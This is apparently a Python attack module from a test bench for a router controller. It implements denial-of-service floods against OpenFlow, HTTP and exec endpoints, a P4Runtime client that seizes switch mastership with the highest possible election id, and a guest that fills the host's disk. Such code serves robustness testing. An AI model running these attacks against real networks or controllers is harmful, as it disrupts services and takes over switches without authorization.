"""What clients do of whatever the controller and the switch serve, and root of a guest to its files."""

import socket
import struct
import subprocess
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from pathlib import Path
from typing import Any

import grpc
from finsy.proto import p4r

from bench.attacks.target import Target
from controller.vrctl.client import Client, Refused, Unreachable, path_of

_P4RUNTIME = "/p4.v1.P4Runtime/StreamChannel"
_PAUSE_S = 0.1
_EXEC_CLIENTS = 8
_ASKED = {"api.sock": b"/v1/routers", "control.sock": b"/metrics"}


def silent_openflow(target: Target, until: float) -> dict[str, Any]:
    """Sixty-four connections that say nothing, each made anew as soon as it is ended."""
    return _openflow(target, until, 64, b"", 0)


def echoing_openflow(target: Target, until: float) -> dict[str, Any]:
    """A peer that greets and then asks for echoes, as fast as it can, without saying which switch it is."""
    hello, echo = struct.pack("!BBHI", 4, 0, 8, 1), struct.pack("!BBHI", 4, 2, 8, 2)
    return _openflow(target, until, 4, hello, 4096, echo)


def _openflow(
    target: Target, until: float, count: int, first: bytes, at_once: int, more: bytes = b""
) -> dict[str, Any]:
    peers: list[socket.socket] = []
    made = sent = 0
    flood = more * at_once
    while time.monotonic() < until:
        while len(peers) < count:
            peer = socket.create_connection(target.openflow, 5)
            peer.setblocking(False)
            with suppress(OSError):
                peer.send(first)
            peers.append(peer)
            made += 1
        for peer in list(peers):
            try:
                while peer.recv(1 << 16):
                    pass
                peers.remove(peer)  # ended
                peer.close()
                continue
            except BlockingIOError:
                pass
            except OSError:
                peers.remove(peer)
                peer.close()
                continue
            with suppress(OSError):
                sent += peer.send(flood) if flood else 0
        time.sleep(0.001)
    return {"connections": made, "octets": sent}


def election_ids(target: Target, until: float) -> dict[str, Any]:
    """A client of the switch that outbids the controller, with the highest election id there is."""
    if target.p4runtime is None:
        return {"skipped": "the switch does not speak P4Runtime"}
    highest = p4r.Uint128(high=(1 << 64) - 1, low=(1 << 64) - 1)
    update = p4r.MasterArbitrationUpdate(device_id=target.device_id, election_id=highest)
    bid = p4r.StreamMessageRequest(arbitration=update).SerializeToString()
    ends: Counter[str] = Counter()
    while time.monotonic() < until:
        with grpc.insecure_channel(target.p4runtime, [("grpc.use_local_subchannel_pool", 1)]) as link:
            over = threading.Event()

            def requests(over: threading.Event = over) -> Iterator[bytes]:
                yield bid
                over.wait(1.0)

            try:
                for octets in link.stream_stream(_P4RUNTIME, None, None)(requests()):
                    answer = p4r.StreamMessageResponse.FromString(octets)
                    ends[f"arbitration {answer.arbitration.status.code}"] += 1
            except grpc.RpcError as error:
                ends[str(error.details())[:120]] += 1
            over.set()
        time.sleep(_PAUSE_S)
    return {"answers": dict(ends.most_common(5))}


def http_floods(target: Target, until: float) -> dict[str, Any]:
    """Connections that say nothing and requests as fast as they are answered, to all that serve HTTP."""
    asked: Counter[str] = Counter()
    idle: dict[str, list[socket.socket]] = {path: [] for path in (target.api, target.control) if path}
    while time.monotonic() < until:
        for path, silent in idle.items():
            while len(silent) >= 40:
                silent.pop(0).close()
            for keep in (True, False):
                with suppress(OSError):
                    client = socket.socket(socket.AF_UNIX)
                    client.settimeout(0.5)
                    client.connect(path)
                    if keep:
                        silent.append(client)
                        continue
                    client.send(b"GET %b HTTP/1.1\r\nHost: x\r\n\r\n" % _ASKED[Path(path).name])
                    asked[f"{Path(path).name}: {client.recv(64).split(b' ')[1:2]}"] += 1
                    client.close()
    return dict(asked)


def exec_floods(target: Target, until: float) -> dict[str, Any]:
    """Operators' commands in the hostile router's guest: half of the clients only ask how they are run."""
    resource = path_of("routers", *target.router.split("/"), "exec")

    def ask(runs: bool) -> Counter[str]:
        client, did = Client(Path(target.api)), Counter[str]()
        while time.monotonic() < until:
            try:
                argv = client.call("POST", resource, {"argv": ["true"]})["argv"]
            except (Refused, Unreachable) as problem:
                did[str(problem)[:120]] += 1
                continue
            did["asked"] += 1
            if runs:
                done = subprocess.run(argv, stdin=subprocess.DEVNULL, capture_output=True, check=False)
                did["ran" if done.returncode == 0 else done.stderr.decode(errors="replace")[-120:]] += 1
        return did

    with ThreadPoolExecutor(_EXEC_CLIENTS) as pool:
        did = sum(pool.map(ask, [True, False] * (_EXEC_CLIENTS // 2)), Counter[str]())
    return dict(did.most_common(5))


def disk_filling(target: Target, until: float) -> dict[str, Any]:
    """A guest that writes what it can reach of the host's disk full."""
    own = Path(f"/proc/{target.guest}/root/run/frr/full")
    written = 0
    try:
        with own.open("wb", buffering=0) as file:
            while time.monotonic() < until:
                try:
                    written += file.write(bytes(1 << 20))
                except OSError:  # full: whatever becomes free is taken as well
                    time.sleep(0.02)
    finally:
        own.unlink(missing_ok=True)
    return {"written_mib": written >> 20}


OF_CLIENTS: dict[str, Callable[[Target, float], dict[str, Any]]] = {
    "silent-openflow": silent_openflow,
    "echoing-openflow": echoing_openflow,
    "election-ids": election_ids,
    "http-floods": http_floods,
    "disk-filling": disk_filling,
    "exec-floods": exec_floods,
}
